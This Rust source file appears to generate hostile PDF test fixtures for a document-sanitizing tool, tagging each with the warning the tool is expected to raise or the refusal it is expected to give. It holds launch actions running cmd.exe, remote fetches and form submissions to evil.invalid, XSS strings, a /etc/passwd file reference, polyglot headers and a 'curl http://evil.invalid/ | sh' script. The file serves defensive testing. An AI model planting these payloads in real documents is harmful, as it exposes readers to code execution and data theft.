//! Documents that would call out, run something or carry something along, and such as are two things at once. Nothing of
//! it is followed; that it is there is told.

use super::{OnePage, TEXT, content, stream};
use crate::{DRAWN, EITHER, HostileFile, REFUSED, Tell};

/// What stands in the catalogue, by name.
const CATALOGUES: [(&str, &str); 18] = [
    ("javascript", "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    ("launch", "/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
    ("goto_remote", "/OpenAction<</S/GoToR/F(\\\\\\\\evil.invalid\\\\s\\\\x.pdf)/D[0/Fit]>>"),
    ("goto_embedded", "/OpenAction<</S/GoToE/F(\\\\\\\\evil.invalid\\\\s\\\\x.pdf)/D[0/Fit]>>"),
    ("uri", "/OpenAction<</S/URI/URI(http://evil.invalid/)>>"),
    ("submit_form", "/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://evil.invalid/)>>/Flags 256>>"),
    ("import_data", "/OpenAction<</S/ImportData/F(\\\\\\\\evil.invalid\\\\x.fdf)>>"),
    ("thread_remote", "/OpenAction<</S/Thread/F<</FS/URL/F(http://evil.invalid/x.pdf)>>/D 0>>"),
    ("named_javascript", "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(2\\))>>]>>>>"),
    ("when_closing", "/AA<</WC<</S/JavaScript/JS(app.alert\\(3\\))>>>>"),
    ("goto_and_then_javascript", "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(app.alert\\(4\\))>>>>"),
    ("portfolio", "/Collection<</View/T>>"),
    ("associated_file", "/AF[<</Type/Filespec/F(x.exe)>>]"),
    ("unknown_action", "/OpenAction<</S/Tomorrow>>"),
    ("bookmark_launches", "/Outlines<</First<</Title(a)/A<</S/Launch/F(cmd.exe)>>>>/Count 1>>"),
    (
        "bookmark_below_a_bookmark_runs_javascript",
        "/Outlines<</First<</Title(a)/Next<</Title(b)/First<</Title(c)/A<</S/JavaScript/JS(app.alert\\(6\\))>>>>>>>>>>",
    ),
    ("field_calculates", "/AcroForm<</Fields[<</T(a)/AA<</C<</S/JavaScript/JS(app.alert\\(7\\))>>>>>>]>>"),
    ("field_below_a_field_submits", "/AcroForm<</Fields[<</T(a)/Kids[<</T(b)/A<</S/SubmitForm/F(x)>>>>]>>]>>"),
];

/// What stands on the page, by name.
const ON_PAGE: [(&str, &str); 5] = [
    ("page_opens_javascript", "/AA<</O<</S/JavaScript/JS(app.alert\\(5\\))>>>>"),
    ("link_launches", "/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(x)>>>>]"),
    ("file_attachment", "/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(x.exe)>>>>]"),
    ("rich_media", "/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"),
    ("sound", "/Annots[<</Subtype/Sound/Rect[0 0 9 9]>>]"),
];

pub(super) fn files() -> Vec<HostileFile> {
    [acting(), carrying(), two_things()].into_iter().flatten().collect()
}

fn file(name: &str, ends: &'static [crate::End], make: impl Fn() -> Vec<u8> + Send + Sync + 'static) -> HostileFile {
    HostileFile::new(format!("{name}.pdf"), ends, make)
}

fn acting() -> Vec<HostileFile> {
    let catalogues = CATALOGUES.into_iter().map(|(name, catalogue)| {
        file(&format!("active_{name}"), DRAWN, move || {
            OnePage { catalogue: catalogue.to_owned(), content: stream("", TEXT), ..OnePage::default() }.bytes()
        })
        .telling(&[Tell::ActiveContent])
    });
    let on_page = ON_PAGE.into_iter().map(|(name, page)| {
        file(&format!("active_{name}"), DRAWN, move || {
            OnePage { page: page.to_owned(), content: stream("", TEXT), ..OnePage::default() }.bytes()
        })
        .telling(&[Tell::ActiveContent])
    });
    catalogues.chain(on_page).collect()
}

fn carrying() -> Vec<HostileFile> {
    let xdp = "/AcroForm<</XFA(<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>)/Fields[]>>";
    vec![
        file("xfa_form_elsewhere", DRAWN, || {
            let form = vec![(5, b"<</XFA[(template)6 0 R]/Fields[]>>".to_vec()), (6, stream("", b"<template/>"))];
            OnePage { catalogue: "/AcroForm 5 0 R".to_owned(), more: form, ..content(TEXT) }.bytes()
        })
        .telling(&[Tell::Xfa]),
        file("xfa_form", DRAWN, move || {
            OnePage { catalogue: xdp.to_owned(), content: stream("", TEXT), ..OnePage::default() }.bytes()
        })
        .telling(&[Tell::Xfa]),
        file("active_embedded_program", DRAWN, || {
            let mut program = b"MZ".to_vec();
            program.resize(200, 0);
            OnePage {
                catalogue: "/Names<</EmbeddedFiles<</Names[(x.exe) 6 0 R]>>>>".to_owned(),
                more: vec![
                    (5, stream("/Type/EmbeddedFile", &program)),
                    (6, b"<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>".to_vec()),
                ],
                ..content(TEXT)
            }
            .bytes()
        })
        .telling(&[Tell::ActiveContent]),
        file("active_content_from_elsewhere", DRAWN, || {
            OnePage { content: stream("/F<</FS/URL/F(http://evil.invalid/x)>>", b""), ..OnePage::default() }.bytes()
        })
        .telling(&[Tell::ActiveContent, Tell::PartsNotDrawn, Tell::LooksEmpty]),
        file("active_picture_from_a_file", DRAWN, || {
            let dictionary = "/Type/XObject/Subtype/Image/Width 10/Height 10/BitsPerComponent 8/ColorSpace/DeviceGray/F(/etc/passwd)";
            super::showing(dictionary, b"").bytes()
        }),
        file("metadata_with_mark_up", DRAWN, || {
            let info =
                b"<</Title(<img src=x onerror=alert\\(1\\)>)/Author(\"><script>alert\\(1\\)</script>)>>".to_vec();
            OnePage { trailer: "/Info 9 0 R".to_owned(), more: vec![(9, info)], ..content(TEXT) }.bytes()
        }),
        file("words_with_mark_up", DRAWN, || {
            content(b"BT /F1 12 Tf 50 700 Td (<script>alert\\(1\\)</script><img src=x onerror=alert\\(1\\)>) Tj ET")
                .bytes()
        }),
        file("words_that_steer_the_screen", DRAWN, || {
            // Glyph "A" is said to mean: override to right-to-left, "<b>", escape.
            let map = b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap \
                1 begincodespacerange <00> <FF> endcodespacerange \
                1 beginbfchar <41> <202E003C0062003E001B> endbfchar endcmap end end";
            OnePage {
                resources: "/Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 5 0 R>>>>".to_owned(),
                more: vec![(5, stream("", map))],
                ..content(b"BT /F1 24 Tf 50 700 Td (A) Tj ET")
            }
            .bytes()
        }),
        file("white_on_white", DRAWN, || content(b"1 g BT /F1 24 Tf 50 700 Td (hidden) Tj ET").bytes())
            .telling(&[Tell::LooksEmpty]),
        file("earlier_version_below", DRAWN, || {
            let first = content(b"BT /F1 24 Tf 50 700 Td (as it was) Tj ET").bytes();
            [first, content(TEXT).bytes()].concat()
        }),
    ]
}

fn two_things() -> Vec<HostileFile> {
    let prefixed = |name: &str, prefix: &'static [u8]| file(name, REFUSED, move || content(TEXT).after(prefix));
    vec![
        prefixed("polyglot_html_first", b"<html><script>alert(1)</script><!--\n"),
        // A picture by its first bytes, and as a picture it is broken.
        prefixed("polyglot_jpeg_first", b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\n"),
        prefixed("polyglot_program_first", b"MZ\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\n"),
        prefixed("polyglot_zip_first", b"PK\x03\x04\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\n"),
        prefixed("header_after_1024_bytes", &[0; 1_100]),
        file("polyglot_zip_last", EITHER, || [content(TEXT).bytes().as_slice(), b"PK\x05\x06", &[0; 18]].concat()),
        file("web_page_called_pdf", REFUSED, || b"<!DOCTYPE html><html><script>alert(1)</script></html>".to_vec()),
        file("script_called_pdf", REFUSED, || b"#!/bin/sh\ncurl http://evil.invalid/ | sh\n".to_vec()),
        file("word_processor_called_pdf", REFUSED, || {
            [b"PK\x03\x04\x14\0".as_slice(), &[0; 24], b"word/document.xml"].concat()
        }),
    ]
}
